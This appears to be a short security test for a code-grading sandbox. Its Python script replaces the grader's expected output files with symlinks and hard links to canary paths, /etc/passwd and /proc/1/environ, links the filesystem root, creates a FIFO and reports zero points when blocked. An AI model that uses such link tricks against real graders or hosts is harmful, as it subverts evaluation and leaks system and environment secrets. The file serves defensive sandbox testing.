# Tries: links in place of the files that the grader fetches
# Stopped by: only plain files are brought out
# Status: ungradable or graded
# Points: 0
# Reason:
import os

TARGETS = "@CANARIES@".split(":")
for name in ("called.json", "executed.ipynb", "results", "compiled.json"):
    for target in (*TARGETS, "/etc/passwd", "/proc/1/environ"):
        for link in (os.symlink, os.link):
            try:
                link(target, name)
            except OSError:
                continue
os.symlink("/", "root")
os.mkfifo("pipe")
os._exit(0)
